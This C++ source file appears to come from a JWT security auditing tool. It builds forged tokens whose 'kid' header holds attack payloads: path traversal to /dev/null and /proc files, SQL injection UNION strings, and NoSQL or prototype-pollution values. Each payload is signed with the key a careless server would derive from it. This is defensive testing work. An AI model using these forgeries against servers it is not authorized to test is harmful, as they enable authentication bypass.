// SPDX-FileCopyrightText: Claimcheck contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// The kid as what a careless server makes of it (RFC 7515 §4.1.4): a path, a piece of SQL, an index. All of
// it only reads.

#include "families.h"
#include "making.h"

#include <json/write.h>

namespace claimcheck::audit {

static void addKid(Basket& basket, const Material& material, const std::string& variant,
                   const std::string& kidJson, const std::string& key, const std::string& keyName)
{
    const std::string header = goodHeader(material).setText("alg", "HS256").set("kid", kidJson).json();
    basket.addMade(
        variant, "header kid " + kidJson + ", HMAC under " + keyName,
        [header, key](const std::string& payload) { return macToken("HS256", key, header, payload); },
        ownPayload(material), ownChanges);
}

std::vector<Forgery> forgeKidPath(const Material& material)
{
    Basket basket;
    const auto add = [&](const std::string& path, const std::string& key, const std::string& keyName) {
        addKid(basket, material, path, json::quoted(path), key, keyName);
    };
    const auto climbed = [](const std::string& step, int depth, const std::string& path) {
        std::string text;
        for (int i = 0; i < depth; ++i)
            text += step;
        return text + path;
    };
    for (const int depth : {10, 8, 6, 4, 3, 2, 1})
        add(climbed("../", depth, "dev/null"), "", "the empty key");
    add("/dev/null", "", "the empty key");
    add("file:///dev/null", "", "the empty key");
    add(climbed("..%2f", 10, "dev/null"), "", "the empty key");
    add(climbed("....//", 10, "dev/null"), "", "the empty key");
    const std::string ended = climbed("../", 10, "dev/null") + std::string(1, '\0');
    addKid(basket, material, climbed("../", 10, "dev/null") + " and NUL", json::quoted(ended), "",
           "the empty key");
    const std::string known = "proc/sys/kernel/randomize_va_space";
    add("/" + known, "2\n", "the content of that file, 2 and a line end");
    add(climbed("../", 10, known), "2\n", "the content of that file, 2 and a line end");
    return basket.take();
}

std::vector<Forgery> forgeKidPublicFile(const Material& material)
{
    Basket basket;
    for (const PublicFile& file : material.publicFiles)
        for (const char* before : {"", "/", "../", "../../public/", "../../static/"}) {
            const std::string path = before + file.path;
            addKid(basket, material, path, json::quoted(path), file.bytes, "the content of that file");
        }
    return basket.take();
}

std::vector<Forgery> forgeKidSql(const Material& material)
{
    Basket basket;
    const std::string key = "claimcheck-audit";
    for (const std::string tail : {"' -- ", "", "' AS secret -- "}) {
        const std::string kid = "x' UNION SELECT '" + key + tail;
        addKid(basket, material, kid, json::quoted(kid), key, "the text that the query would give");
    }
    const std::string quoted = "x\" UNION SELECT \"" + key;
    addKid(basket, material, quoted, json::quoted(quoted), key, "the text that the query would give");
    const std::string open = "x' UNION SELECT '" + key + "'--";
    addKid(basket, material, open, json::quoted(open), key, "the text that the query would give");
    return basket.take();
}

std::vector<Forgery> forgeKidType(const Material& material)
{
    Basket basket;
    for (const std::string json :
         {R"({"$ne":null})", "[]", "0", "true", "null", "\"\"", "\"__proto__\"", "\"constructor\""})
        addKid(basket, material, "kid " + json, json, "", "the empty key");
    return basket.take();
}

} // namespace claimcheck::audit
